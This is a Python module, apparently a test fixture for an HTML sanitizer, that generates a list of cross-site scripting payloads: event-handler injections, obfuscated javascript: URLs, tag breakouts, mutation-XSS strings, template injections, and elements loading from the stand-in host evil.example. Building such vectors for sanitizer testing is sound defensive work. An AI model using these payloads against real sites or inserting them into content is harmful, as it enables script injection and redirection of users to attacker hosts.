"""Texts that would run ``ran()``, load from evil.example or cover the page, were they ever taken for markup."""

from __future__ import annotations

from itertools import product

EVIL = "https://evil.example/x"
_TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "iframe", "a href=# style=x:y",
         "marquee", "object data=x", "p tabindex=0", "math")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
_WRAPS = ("<{tag} {event}=ran()>", '"><{tag} {event}="ran()">', "&lt;{tag} {event}=ran()&gt;")
_URLS = ("javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "&#106;avascript:ran()", " javascript:ran()",
         "data:text/html,<script>ran()</script>", "vbscript:ran()", "\x01javascript:ran()")  # fmt: skip
_WHOLE = (
    "<script>ran()</script>", f"<script src={EVIL}></script>", "<ScRiPt>ran()</sCrIpT>",
    "</title><script>ran()</script>",
    "</script><script>ran()</script>", "<<script>ran()//<</script>", "</textarea><script>ran()</script>",
    "<style>*{position:fixed}</style>", f"<link rel=stylesheet href={EVIL}>", f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<img src={EVIL}>", f"<img srcset={EVIL}>",
    f"<iframe src={EVIL}></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    f"<video poster={EVIL}></video>", f"<form action={EVIL}><button>x</button></form>",
    f"<object data={EVIL}></object>",
    f"<div style='position:fixed;inset:0;z-index:9;background:url({EVIL})'>x</div>", "{{ ran() }}", "{% raw %}",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
    "<svg><style><img src=x onerror=ran()></style>", "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<template><script>ran()</script></template>", "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "' onmouseover=ran() x='", '" autofocus onfocus=ran() x="', "\\u003cscript\\u003eran()\\u003c/script\\u003e",
)  # fmt: skip
VECTORS = (
    *(wrap.format(tag=tag, event=event) for wrap, tag, event in product(_WRAPS, _TAGS, _EVENTS)),
    *(f'<a href="{url}">x</a>' for url in _URLS),
    *_WHOLE,
)
